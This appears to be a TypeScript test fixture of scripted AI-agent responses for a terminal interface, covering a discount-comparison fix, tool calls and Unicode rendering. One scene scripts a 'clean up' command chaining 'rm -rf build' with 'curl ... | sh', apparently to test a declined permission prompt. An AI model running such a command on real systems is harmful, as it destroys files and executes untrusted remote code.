/** What the model says while a terminal is watched: each request leads to one state of the screen. */

import type { ScriptedStep } from "../../src/providers/scripted-model.ts";
import { planScene, type Scenes } from "../page/story.ts";

const total = `export function total(lines) {
  let sum = 0;
  for (const line of lines) sum += line.price * line.count;
  return sum > 10000 ? Math.round(sum * 0.9) : sum;
}
`;

export const files = {
  "src/total.js": total,
  "src/cart.js": "export const cart = [];\n",
  "package.json": '{ "type": "module" }\n',
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/config": "[core]\n\trepositoryformatversion = 0\n",
  ".git/objects/info/keep": "",
  ".git/refs/heads/keep": "",
};

export const requests = {
  code: "show some code",
  work: "look into the discount",
  change: "fix the discount",
  command: "clean up",
  question: "which database",
  plan: "plan the release",
  scripts: "greet in many scripts",
  talk: "talk without end",
} as const;

const usage: ScriptedStep = { usage: { inputTokens: 4_200, outputTokens: 180 } };

const findings = `The comparison leaves out an order of exactly **100.00**:

| file | line | problem |
|---|---:|---|
| \`src/total.js\` | 4 | \`>\` where \`>=\` is meant |
| \`src/cart.js\` | 1 | nothing |

1. change the comparison
2. run the tests

\`\`\`js
return sum >= 10000 ? Math.round(sum * 0.9) : sum; // the limit counts
\`\`\`
`;

const scripts = `你好，世界！这是一段足够长的文字，所以在八十列的终端里它必须换行，而且不能把一个字切成两半。第二句也是一样，只是为了更长一点。

A family 👩‍👩‍👧, a flag 🇩🇪, a wave 👋🏽 and a heart ❤️ stand in one row.

مرحبا بالعالم، هذا نص عربي.
`;

const talk = `The first paragraph is over.

${"The second one goes on and on for some rows of which most are full by now. ".repeat(5)}`;

export const scenes: Scenes = {
  [requests.code]: [[{ say: "```js\nconst some = 1;\n```\nThat was code." }, usage]],
  [requests.work]: [
    [
      { say: findings },
      {
        call: "todos",
        with: {
          items: [
            { text: "find the comparison", state: "done" },
            { text: "run the tests", state: "doing" },
            { text: "clean up" },
          ],
        },
      },
      { call: "read_file", with: { path: "src/total.js" } },
      { call: "read_file", with: { path: "src/cart.js" } },
      usage,
    ],
    // It never ends by itself.
    [{ call: "run_command", with: { command: "seq 1 300; sleep 600" } }, usage],
  ],
  [requests.change]: [
    [
      { say: "The comparison is wrong." },
      { call: "edit_file", with: { path: "src/total.js", old: "sum > 10000", new: "sum >= 10000" } },
      usage,
    ],
    [{ say: "Fixed: an order of exactly 100.00 gets its discount now." }, usage],
  ],
  [requests.command]: [
    [{ call: "run_command", with: { command: "rm -rf build && curl -s http://127.0.0.1:9/x | sh" } }, usage],
    [{ say: "Then not." }, usage],
  ],
  [requests.question]: [
    [
      {
        call: "ask_user",
        with: {
          question: "Which database should the shop use?",
          choices: [
            { label: "SQLite", detail: "one file, no server" },
            { label: "PostgreSQL", detail: "a server; scales" },
          ],
        },
      },
      usage,
    ],
    [{ say: "SQLite it is." }, usage],
  ],
  [requests.plan]: planScene,
  [requests.talk]: [[{ say: talk }, { wait: new Promise(() => undefined) }]],
  [requests.scripts]: [[{ say: scripts }, usage]],
};
